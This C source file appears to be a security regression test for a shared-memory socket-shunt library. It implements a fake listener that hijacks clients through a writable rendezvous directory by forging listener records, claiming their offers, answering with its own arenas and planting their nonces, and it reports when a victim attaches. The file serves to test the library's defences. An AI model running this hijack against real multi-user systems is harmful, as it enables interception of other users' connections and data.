/* Description: attack #1 of issue #12 - a user who can write the rendezvous
 * directory poses as the listener of a port it does not serve: it registers
 * a listener record, holds the liveness lock, claims every offer for the
 * port and answers it with an arena of its own.  A victim client that
 * attached would send its request to this process instead of the real
 * (plain) server and read this process's forged reply.
 * With "slot" it answers in the offer slot instead (naming a segment of
 * an arena of its own, which it never sent the victim), which the victim
 * must refuse.  With "garbage" it writes a
 * state no shunt process writes (0x99), which must end the victim's wait
 * at once, plain (an older library waited for ever).
 * With "plant VPORT ID" it serves PORT for real (its kernel listener: it
 * owns the connections, so the victim takes its accept message and maps
 * its arena, made with id ID), then waits for the same victim's offer to
 * VPORT - a server of another user, whose arena for the victim has that
 * id too (tests/security/dir.sh 1i) - and writes that offer's nonce into
 * every segment of its arena: a victim that took the arena mapped under
 * the id for its server's would attach here.
 * With "slotplant VPORT ID" it serves PORT for real as with "plant", poses
 * as VPORT's listener too (a plain server of another user's there), and
 * answers the same victim's offer to VPORT in the slot, naming a segment
 * of the arena the victim maps since it served it, with the offer's nonce
 * written there: a victim that took a shared directory's slot answer on
 * the nonce alone would attach here (tests/security/dir.sh 1j).
 *   fakelisten DIR PORT SECONDS [slot|garbage|plant VPORT ID|slotplant VPORT ID]
 * Prints "claimed N attached M"; M > 0 means a victim was hijacked. */
#include "../behave/common.h" /* first: it sets _GNU_SOURCE */
#include <limits.h>
#include <linux/futex.h>
#include <sys/eventfd.h>
#include <sys/syscall.h>
#include <sys/file.h>
#include <sys/mman.h>
#include <sys/stat.h>
#include <sys/un.h>
#include "../../src/common/msg.c" /* the wire helpers, as the shim uses them */

#define RS 4096u

static int send_accept(const char *dir, const struct shunt_slot *sl, unsigned idx, int memfd,
		       uint64_t arena_id, const int efd[2])
{
	struct shunt_accept_msg m = { .magic = SHUNT_MSG_MAGIC, .version = SHUNT_WIRE_VERSION, .nfds = 3,
				      .nonce = sl->nonce, .ring_size = RS, .slot = idx, .arena = arena_id,
				      .seg = 0, .flags = SHUNT_MSG_F_ARENA };
	union { char buf[CMSG_SPACE(3 * sizeof(int))]; struct cmsghdr align; } u;
	struct sockaddr_un sun = { .sun_family = AF_UNIX };
	struct iovec iov = { &m, sizeof m };
	struct msghdr mh = { .msg_name = &sun, .msg_namelen = sizeof sun, .msg_iov = &iov, .msg_iovlen = 1,
			     .msg_control = u.buf, .msg_controllen = sizeof u.buf };
	struct cmsghdr *c = CMSG_FIRSTHDR(&mh);
	int fds[3] = { memfd, efd[0], efd[1] }, s = socket(AF_UNIX, SOCK_DGRAM, 0), r;

	snprintf(sun.sun_path, sizeof sun.sun_path, "%s/c%016llx", dir, (unsigned long long)sl->sock_id);
	c->cmsg_level = SOL_SOCKET;
	c->cmsg_type = SCM_RIGHTS;
	c->cmsg_len = CMSG_LEN(sizeof fds);
	memcpy(CMSG_DATA(c), fds, sizeof fds);
	r = sendmsg(s, &mh, MSG_DONTWAIT) == (ssize_t)sizeof m ? 0 : -1;
	close(s);
	return r;
}

/* Segment k of our arena h. */
static struct shunt_seg_hdr *seg_of(struct shunt_arena_hdr *h, unsigned k)
{
	return (void *)((char *)h + SHUNT_ARENA_HDR_SIZE + k * (SHUNT_SEG_HDR_SIZE + 2 * (size_t)RS));
}

/* A sealed arena (id: its id) with segment 0 made ready for this offer. */
static struct shunt_arena_hdr *make_arena(uint64_t nonce, uint64_t id, int *memfd)
{
	size_t len = shunt_arena_size(RS);
	struct shunt_arena_hdr *h;
	struct shunt_seg_hdr *seg;
	int fd = memfd_create("shunt-arena", MFD_ALLOW_SEALING);

	CHECK(fd >= 0 && ftruncate(fd, (off_t)len) == 0);
	CHECK(fcntl(fd, F_ADD_SEALS, F_SEAL_SHRINK | F_SEAL_GROW | F_SEAL_SEAL) == 0);
	h = mmap(NULL, len, PROT_READ | PROT_WRITE, MAP_SHARED, fd, 0);
	CHECK(h != MAP_FAILED);
	*h = (struct shunt_arena_hdr){ .magic = SHUNT_ARENA_MAGIC, .version = SHUNT_WIRE_VERSION,
				       .id = id, .nslots = SHUNT_ARENA_SLOTS,
				       .ring_size = RS };
	seg = seg_of(h, 0);
	shunt_seg_hdr_init(seg, RS, nonce);
	seg->in_use = 1;
	seg->owner[0] = seg->owner[1] = 1;
	*memfd = fd;
	return h;
}

/* The registry of port `port` in dir, mapped (NULL: not made yet). */
static struct shunt_registry *registry(const char *dir, int port, int create)
{
	char path[PATH_MAX];
	struct shunt_registry *r;
	int fd;

	snprintf(path, sizeof path, "%s/p%d", dir, port);
	fd = open(path, O_RDWR | (create ? O_CREAT : 0), 0666);
	if (fd < 0 && !create)
		return NULL;
	CHECK(fd >= 0);
	if (create)
		CHECK(ftruncate(fd, sizeof *r) == 0);
	fchmod(fd, 0666);
	r = mmap(NULL, sizeof *r, PROT_READ | PROT_WRITE, MAP_SHARED, fd, 0);
	CHECK(r != MAP_FAILED);
	if (create)
		CHECK(flock(fd, LOCK_SH) == 0); /* "a live listener" */
	return r;
}

/* A listener record for port in r, "any address, every namespace". */
static void fake_record(struct shunt_registry *r, int port)
{
	r->magic = SHUNT_REG_MAGIC;
	r->version = SHUNT_WIRE_VERSION;
	r->port = (uint32_t)port;
	r->nslots = SHUNT_REG_SLOTS;
	for (int i = 0; i < SHUNT_REG_LISTENERS; i++) {
		struct stat st;
		r->listeners[i].netns = stat("/proc/self/ns/net", &st) ? 0 : st.st_ino;
		memset(&r->listeners[i].addr, 0, sizeof r->listeners[i].addr);
		r->listeners[i].addr.port = (uint16_t)port;
		r->listeners[i].used = 1;
	}
}

/* slotplant: the victim's offer in v, once there, claimed and answered in
 * the slot with segment SLOTPLANT_SEG of our arena h, the nonce written
 * there.  Returns the nonce, or 0. */
#define SLOTPLANT_SEG 1
static uint64_t slot_plant(struct shunt_registry *v, uint64_t victim, struct shunt_arena_hdr *h)
{
	for (unsigned i = 0; i < SHUNT_REG_SLOTS; i++) {
		struct shunt_slot *sl = &v->slots[i];
		uint32_t st = __atomic_load_n(&sl->state, __ATOMIC_ACQUIRE), gen = SHUNT_SLOT_GEN(st);
		uint64_t nonce = sl->nonce;
		struct shunt_seg_hdr *seg = seg_of(h, SLOTPLANT_SEG);
		if (SHUNT_SLOT_STATE(st) != SLOT_OFFERED || sl->sock_id != victim ||
		    !__atomic_compare_exchange_n(&sl->state, &st, gen | SLOT_CLAIMED, 0, __ATOMIC_ACQ_REL,
						 __ATOMIC_RELAXED))
			continue;
		shunt_seg_hdr_init(seg, RS, nonce);
		seg->in_use = 1;
		seg->owner[0] = seg->owner[1] = 1;
		sl->answer_arena = h->id;
		sl->answer_seg = SLOTPLANT_SEG;
		__atomic_store_n(&sl->state, gen | SLOT_ANSWERED, __ATOMIC_RELEASE);
		if (sl->client_waiting)
			syscall(SYS_futex, &sl->state, FUTEX_WAKE, INT_MAX, NULL, NULL, 0);
		return nonce;
	}
	return 0;
}

/* plant: the victim's offer to the other port, once there: its nonce in
 * every segment of our arena h.  Returns the nonce, or 0. */
static uint64_t plant(struct shunt_registry *v, uint64_t victim, uint64_t first, struct shunt_arena_hdr *h)
{
	for (unsigned i = 0; v && i < SHUNT_REG_SLOTS; i++) {
		struct shunt_slot *sl = &v->slots[i];
		uint32_t st = SHUNT_SLOT_STATE(__atomic_load_n(&sl->state, __ATOMIC_ACQUIRE));
		uint64_t nonce = sl->nonce;
		if ((st != SLOT_OFFERED && st != SLOT_CLAIMED) || sl->sock_id != victim || nonce == first)
			continue;
		for (unsigned k = 0; k < SHUNT_ARENA_SLOTS; k++) {
			struct shunt_seg_hdr *seg = seg_of(h, k);
			shunt_seg_hdr_init(seg, RS, nonce);
			seg->in_use = 1;
			seg->owner[0] = seg->owner[1] = 1;
		}
		return nonce;
	}
	return 0;
}

int main(int argc, char **argv)
{
	struct shunt_registry *r, *vreg = NULL;
	struct shunt_arena_hdr *arenas[64];
	int port, claimed = 0, attached = 0, narenas = 0, lfd = -1;
	uint64_t victim = 0, first = 0, planted = 0, id = 0;
	double end;

	int in_slot = argc == 5 && !strcmp(argv[4], "slot");
	int garbage = argc == 5 && !strcmp(argv[4], "garbage");
	int slotplant = argc == 7 && !strcmp(argv[4], "slotplant");
	int planting = (argc == 7 && !strcmp(argv[4], "plant")) || slotplant;

	CHECK(argc == 4 || in_slot || garbage || planting);
	port = atoi(argv[2]);
	end = now_s() + atof(argv[3]);
	if (planting) { /* a service of our own, for real */
		struct sockaddr_in a = { .sin_family = AF_INET, .sin_port = htons((uint16_t)port),
					 .sin_addr.s_addr = htonl(INADDR_LOOPBACK) };
		int one = 1;
		id = strtoull(argv[6], NULL, 0) | 1;
		lfd = socket(AF_INET, SOCK_STREAM | SOCK_NONBLOCK, 0);
		CHECK(lfd >= 0 && !setsockopt(lfd, SOL_SOCKET, SO_REUSEADDR, &one, sizeof one));
		CHECK(!bind(lfd, (void *)&a, sizeof a) && !listen(lfd, 8));
	}
	r = registry(argv[1], port, 1);
	fake_record(r, port);
	if (slotplant) {
		vreg = registry(argv[1], atoi(argv[5]), 1);
		fake_record(vreg, atoi(argv[5]));
	}
	printf("fake listener on port %d\n", port);
	fflush(stdout);
	while (now_s() < end) {
		for (unsigned i = 0; i < SHUNT_REG_SLOTS && narenas < 64; i++) {
			struct shunt_slot *sl = &r->slots[i];
			uint32_t st = __atomic_load_n(&sl->state, __ATOMIC_ACQUIRE), gen = SHUNT_SLOT_GEN(st);
			int memfd, efd[2];
			if (SHUNT_SLOT_STATE(st) != SLOT_OFFERED ||
			    !__atomic_compare_exchange_n(&sl->state, &st, gen | SLOT_CLAIMED, 0, __ATOMIC_ACQ_REL,
							 __ATOMIC_RELAXED))
				continue;
			claimed++;
			if (garbage) { /* a state no party writes, in the offer's generation */
				__atomic_store_n(&sl->state, gen | 0xf, __ATOMIC_RELEASE);
				if (sl->client_waiting)
					syscall(SYS_futex, &sl->state, FUTEX_WAKE, 1, NULL, NULL, 0);
				continue;
			}
			if (planting) { /* its connection, ours: accepted */
				int c = -1;
				for (int t = 0; t < 1000 && (c = accept(lfd, NULL, NULL)) < 0; t++)
					usleep(1000);
				CHECK(c >= 0);
				victim = sl->sock_id;
				first = sl->nonce;
			}
			arenas[narenas] = make_arena(sl->nonce, planting ? id : sl->nonce ^ 0x5a5a5a5a5a5a5a5aull,
						     &memfd);
			efd[0] = eventfd(0, 0);
			efd[1] = eventfd(0, 0);
			/* as a server does: the answer, then CLAIMED -> ANSWERED */
			sl->answer_arena = arenas[narenas]->id;
			sl->answer_seg = in_slot ? 0 : SHUNT_SLOT_BY_MSG;
			if (!in_slot && send_accept(argv[1], sl, i, memfd, arenas[narenas]->id, efd))
				__atomic_store_n(&sl->state, gen | SLOT_FAILED, __ATOMIC_RELEASE);
			else
				__atomic_store_n(&sl->state, gen | SLOT_ANSWERED, __ATOMIC_RELEASE);
			if (sl->client_waiting)
				syscall(SYS_futex, &sl->state, FUTEX_WAKE, 1, NULL, NULL, 0);
			narenas++;
			close(memfd);
		}
		if (planting && victim && !planted) {
			if (!vreg)
				vreg = registry(argv[1], atoi(argv[5]), 0);
			planted = slotplant ? slot_plant(vreg, victim, arenas[0]) : plant(vreg, victim, first, arenas[0]);
			claimed += slotplant && planted;
			if (planted)
				printf("planted the victim's nonce for port %s%s\n", argv[5],
				       slotplant ? ", answered in its slot" : "");
			continue; /* (no sleep: the victim's server answers soon) */
		}
		usleep(200);
	}
	if (planting) {
		for (unsigned k = 0; narenas && k < SHUNT_ARENA_SLOTS; k++) {
			struct shunt_seg_hdr *seg = seg_of(arenas[0], k);
			if (planted && seg->nonce == planted && __atomic_load_n(&seg->confirm, __ATOMIC_ACQUIRE) == 1) {
				attached++;
				printf("HIJACKED: the victim's connection to port %s attached here and wrote %llu "
				       "bytes to us\n", argv[5], (unsigned long long)seg->ring[0].prod);
			}
		}
		printf("claimed %d attached %d\n", claimed, attached);
		return 0;
	}
	for (int i = 0; i < narenas; i++) {
		struct shunt_seg_hdr *seg = seg_of(arenas[i], 0);
		if (__atomic_load_n(&seg->confirm, __ATOMIC_ACQUIRE) == 1) {
			attached++;
			printf("HIJACKED: a victim attached and wrote %llu bytes to us\n",
			       (unsigned long long)seg->ring[0].prod);
		}
	}
	printf("claimed %d attached %d\n", claimed, attached);
	return 0;
}
